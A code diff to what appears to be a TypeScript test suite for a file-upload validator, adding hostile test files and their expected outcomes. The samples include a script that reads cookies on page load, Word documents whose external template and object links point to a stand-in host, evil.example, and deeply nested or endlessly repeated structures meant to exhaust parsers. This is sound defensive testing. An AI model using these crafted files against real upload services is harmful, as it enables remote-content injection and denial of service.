@@ -11,8 +11,8 @@ export interface HostileFile {
   /** What its sender says it is. */
   type?: string
   name?: string
-  /** A refusal, one of any kind, drawn anew, or either of the last two. */
-  outcome: FileRefusal | 'refused' | 'redrawn' | 'refused or redrawn'
+  /** A refusal, one of any kind, drawn anew, or either of the last two; `ready` is for what only costs time to look at. */
+  outcome: FileRefusal | 'refused' | 'redrawn' | 'refused or redrawn' | 'ready'
 }
 
 const html = '<html><body onload="alert(document.cookie)"></body></html>'
@@ -239,16 +239,39 @@ async function betraying(): Promise<HostileFile[]> {
   )
 }
 
+const rels = (type: string) =>
+  `<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" TargetMode="External" Target="https://evil.example/x"/></Relationships>`
+
 function archives(): HostileFile[] {
   const type = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'
   const zeros = Buffer.alloc(30 * 1024 * 1024)
   const made: [string, Buffer, HostileFile['outcome']][] = [
     ['an archive', makeZip([{ name: 'a.txt', content: 'x' }]), 'type_not_accepted'],
     ['a Java archive', makeZip([{ name: 'META-INF/MANIFEST.MF', content: 'x' }]), 'type_not_accepted'],
+    [
+      'a document with endless relations',
+      makeDocx([{ name: 'word/_rels/x.rels', content: '<Relationship'.repeat(1_000_000) }]),
+      'unpacks_too_large',
+    ],
+    [
+      'a document with relations that do not end',
+      makeDocx([{ name: 'word/_rels/x.rels', content: '<Relationship'.repeat(70_000) }]),
+      'ready',
+    ],
     ['a document with macros', makeDocx([{ name: 'word/vbaProject.bin', content: 'x' }]), 'active_content'],
     ['a sheet with macros', makeXlsx([{ name: 'xl/macrosheets/sheet1.xml', content: 'x' }]), 'active_content'],
     ['a document with a control', makeDocx([{ name: 'word/activeX/activeX1.bin', content: 'x' }]), 'active_content'],
     ['a document with a program in it', makeDocx([{ name: 'word/embeddings/oleObject1.bin', content: 'MZ' }]), 'active_content'],
+    [
+      'a document with a template from elsewhere',
+      makeDocx([{ name: 'word/_rels/settings.xml.rels', content: rels('attachedTemplate') }]),
+      'active_content',
+    ],
+    [
+      'a document with an object from elsewhere',
+      makeDocx([{ name: 'word/_rels/document.xml.rels', content: rels('oleObject') }]),
+      'active_content',
+    ],
     ['a document with a page in it', makeDocx([{ name: 'word/afchunk.htm', content: html }]), 'active_content'],
     ['a document with a script in it', makeDocx([{ name: 'word/x.js', content: 'x' }]), 'active_content'],
     [
@@ -293,6 +316,8 @@ function pdfs(): HostileFile[] {
       makePdf([catalog, '<< /Type /ObjStm /Filter /FlateDecode >>\nstream\nnot packed at all\nendstream']),
       'damaged',
     ],
+    ['with half a million lists that never end', makePdf([catalog, '/ObjStm stream\n'.repeat(500_000)]), 'damaged'],
+    ['with half a million streams that never end', makePdf([catalog, '>> stream\n'.repeat(500_000)]), 'ready'],
     ['with a password', makePdf([catalog], '/Encrypt 9 0 R'), 'encrypted'],
     ['with a page in it', makePdf([catalog, html]), 'mixed_content'],
     ['with a page behind it', Buffer.concat([makePdf(), text(html)]), 'mixed_content'],
@@ -305,16 +330,28 @@ function pdfs(): HostileFile[] {
   return made.map(([what, bytes, outcome]) => ({ what: `a PDF ${what}`, bytes, outcome, type: 'application/pdf' }))
 }
 
+/** Boxes within boxes, by their heads alone. */
+function nested(type: string, levels: number): Buffer {
+  const heads = Array.from({ length: levels }, (_, level) => {
+    const head = Buffer.alloc(8)
+    head.writeUInt32BE((levels - level) * 8)
+    head.write(level === 0 ? type : 'trak', 4)
+    return head
+  })
+  return Buffer.concat(heads)
+}
+
 function videos(): HostileFile[] {
   const video = makeVideo()
   const made: [string, Buffer, HostileFile['outcome']][] = [
     ['MP4 with a page behind it', Buffer.concat([video, text(html)]), 'mixed_content'],
     ['MP4 with an archive behind it', Buffer.concat([video, makeZip([{ name: 'a', content: 'x' }])]), 'mixed_content'],
     ['MP4 with a page in its notes', makeVideo('isom', box('udta', html)), 'mixed_content'],
-    ['MP4 with a box nobody knows', makeVideo('isom', box('evil', 'x')), 'mixed_content'],
+    ['MP4 with a box that has no name', makeVideo('isom', box('\0\u0001\u0002\u0003', 'x')), 'damaged'],
     ['MP4 cut off', video.subarray(0, video.length - 100), 'damaged'],
     ['MP4 without pictures', Buffer.concat([box('ftyp', 'isom', '\0\0\0\0', 'isom'), box('free', Buffer.alloc(50))]), 'damaged'],
     ['MP4 with a few bytes behind it', Buffer.concat([video, Buffer.from('abc')]), 'damaged'],
+    ['MP4 with tracks in tracks, 50,000 deep', Buffer.concat([makeVideo(), nested('moov', 50_000)]), 'ready'],
     ['WebM cut off', makeWebm().subarray(0, 300), 'damaged'],
     ['WebM with bytes behind it', Buffer.concat([makeWebm(), Buffer.alloc(20)]), 'mixed_content'],
     ['Matroska', makeWebm('matroska'), 'type_not_accepted'],
